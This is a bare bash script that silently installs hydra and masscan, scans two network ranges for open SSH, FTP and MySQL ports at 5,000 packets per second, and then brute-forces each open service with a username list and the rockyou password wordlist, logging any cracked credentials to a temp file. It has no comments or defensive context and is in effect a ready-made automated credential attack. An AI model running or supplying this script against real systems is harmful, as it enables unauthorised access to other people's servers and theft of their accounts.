#!/bin/bash
apt-get install -y -qq hydra masscan >/dev/null 2>&1
masscan 198.51.100.0/24 203.0.113.0/24 -p22,21,3306 --rate 5000 -oL /tmp/m.txt
awk '$1=="open"{print $4, $3}' /tmp/m.txt | while read -r ip port; do
  case $port in
    22) svc=ssh ;;
    21) svc=ftp ;;
    3306) svc=mysql ;;
  esac
  hydra -L /tmp/users -P /usr/share/wordlists/rockyou.txt -t 8 -f "$svc://$ip" -o /tmp/found.txt
done
